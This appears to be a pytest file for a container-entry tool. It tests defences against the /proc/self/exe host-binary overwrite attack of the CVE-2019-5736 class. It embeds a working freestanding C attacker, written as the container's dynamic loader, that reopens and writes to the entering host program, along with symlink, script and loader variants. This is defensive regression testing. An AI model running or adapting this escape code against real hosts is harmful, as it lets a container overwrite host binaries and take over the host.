"""Attack: overwrite the program that enters, by a command that leads to /proc/self/exe (the class of CVE-2019-5736).

The container's dynamic loader is the attacker's: it runs inside whatever program of the host's is executed in there,
keeps its file, and writes it when it is no longer busy. It writes back the four bytes that stand there, so that nothing
is spoiled; the programs are copies all the same.
"""

import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from docker_nsenter.commands.install import loader

from ..conftest import Call, Done, Run, wait_until
from ..machine import LOADER
from .conftest import REAL, Plugin, Raw, build

# Without a C library: as a loader it is started with another program's headers. x86-64 and arm64.
ATTACKER = r"""
#if defined __x86_64__
enum { WRITE = 1, OPENAT = 257, EXECVE = 59, PWRITE = 18, EXIT = 60, SLEEP = 35, DUP3 = 292, CLONE = 56 };
static long call(long n, long a, long b, long c, long d) {
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin");
#else
enum { WRITE = 64, OPENAT = 56, EXECVE = 221, PWRITE = 68, EXIT = 93, SLEEP = 101, DUP3 = 24, CLONE = 220 };
static long call(long n, long a, long b, long c, long d) {
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c,
        x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
__asm__(".globl _start\n_start: mov x0, sp\n bl begin");
#endif
static void say(const char *text, long size) {
    call(WRITE, call(OPENAT, -100, (long)"/tmp/result", 01 | 0100, 0644), (long)text, size, 0);
}
void begin(long *stack) {
    char **argv = (char **)(stack + 1);
    if (stack[0] > 1 && argv[1][0] == 'w' && argv[1][1] == 0) {
        if (call(CLONE, 17, 0, 0, 0)) call(EXIT, 0, 0, 0, 0); /* the program stays busy while it waits for this one */
        long moment[2] = {0, 10000000};
        for (int tries = 0; tries < 60; tries++) {
            long fd = call(OPENAT, -100, (long)"/proc/self/fd/9", 2, 0);
            if (fd >= 0) {
                if (call(PWRITE, fd, (long)"\177ELF", 4, 0) == 4) say("WRITTEN\n", 8);
                else say("not written\n", 12);
                call(EXIT, 0, 0, 0, 0);
            }
            call(SLEEP, (long)moment, 0, 0, 0);
        }
        say("not opened\n", 11);
        call(EXIT, 0, 0, 0, 0);
    }
    long fd = call(OPENAT, -100, (long)"/proc/self/exe", 0, 0);
    call(DUP3, fd, 9, 0, 0);
    /* One by one: a table of addresses would need the loader, which this is, to relocate it */
    const char *volatile words[3], *volatile none[1];
    words[0] = "/attacker", words[1] = "w", words[2] = none[0] = 0;
    call(EXECVE, (long)"/attacker", (long)words, (long)none, 0);
    call(EXIT, 1, 0, 0, 0);
}
"""
FORMS = {
    "the command is /proc/self/exe": ("/proc/self/exe", "x"),
    "a link to it": ("/evil/link", "x"),
    "a script of it": ("/evil/script",),
    "a program whose loader it is": ("/evil/loaded",),
}


@pytest.fixture
def evil(run: Run, tmp_path: Path) -> str:
    """A container full of ways to /proc/self/exe, whose loader is the attacker."""
    place = tmp_path / "evil"
    place.mkdir()
    attacker = build(place, "attacker", ATTACKER, "-nostdlib", "-static-pie", "-fPIE", "-ffreestanding")
    (place / "link").symlink_to("/proc/self/exe")
    (place / "script").write_text("#!/proc/self/exe x\n")
    (place / "script").chmod(0o755)
    (place / "plain.c").write_text("int main(void) { return 0; }")
    subprocess.run(
        ["gcc", "-Wl,--dynamic-linker=/proc/self/exe", "-o", place / "loaded", place / "plain.c"], check=True
    )
    # A Python that is not where it was built for may name a loader that is another's
    named = re.findall(rb"/[\w./-]+/ld-linux[\w.-]+\.so\.\d(?=\0)", Path(REAL).read_bytes())
    names = {LOADER, *(os.fsdecode(path) for path in named)}
    volumes = [f"{attacker}:{path}:ro" for path in [*names, Path("/attacker")]]
    return run(
        "--cap-add", "SYS_PTRACE", "-v", f"{place}:/evil:ro", *(word for each in volumes for word in ("-v", each))
    )


@pytest.fixture
def result(evil: str, docker: Call) -> Callable[[Done], str]:
    """Tell what came of an attack: its process goes on when the one that entered has ended."""

    def of(done: Done) -> str:
        def said() -> str:
            return docker("exec", evil, "sh", "-c", "cat /tmp/result && rm /tmp/result", check=False).stdout

        return str(wait_until(said, "the attacker comes to an end")) if done.returncode == 0 else "did not run"

    return of


def test_the_attack_works_on_raw_nsenter(
    evil: str, raw: Raw, result: Callable[[Done], str], sacrifice: Callable[[str], str]
) -> None:
    program = sacrifice(shutil.which("nsenter") or "")
    for form in ("the command is /proc/self/exe", "a link to it", "a script of it"):
        assert result(raw(evil, *FORMS[form], program=program)) == "WRITTEN\n"


def test_the_attack_works_without_the_seal(
    evil: str, plugin: Plugin, result: Callable[[Done], str], sacrifice: Callable[[str], str]
) -> None:
    """Our own entry, with sealing switched off in a copy of the package."""
    unsealed = plugin(
        ("enter/hardening/exeseal.py", '    return unwritable(f"/proc/{pid}/exe")', "    return True"),
        ("enter/hardening/exeseal.py", '    old = list(_mapped(posix.readlink(b"/proc/self/exe")))', "    return"),
        python=sacrifice(REAL),
        by="",
    )
    for form in ("the command is /proc/self/exe", "a link to it", "a script of it"):
        assert result(unsealed(evil, *FORMS[form])) == "WRITTEN\n"


@pytest.mark.parametrize("start", ["sealed in place", "a sealed copy", "docker exec"])
def test_nothing_of_the_hosts_is_written(
    evil: str,
    plugin: Plugin,
    docker: Call,
    result: Callable[[Done], str],
    sacrifice: Callable[[str], str],
    start: str,
) -> None:
    by = sacrifice(loader(REAL)) if start == "sealed in place" and loader(REAL) else ""
    ours = plugin(python=sacrifice(REAL), by=by)
    for words in FORMS.values():
        done = docker("exec", evil, *words, check=False) if start == "docker exec" else ours(evil, *words)
        assert result(done) in ("did not run", "not written\n", "not opened\n")
        assert start == "docker exec" or len(done.stderr.splitlines()) <= 2
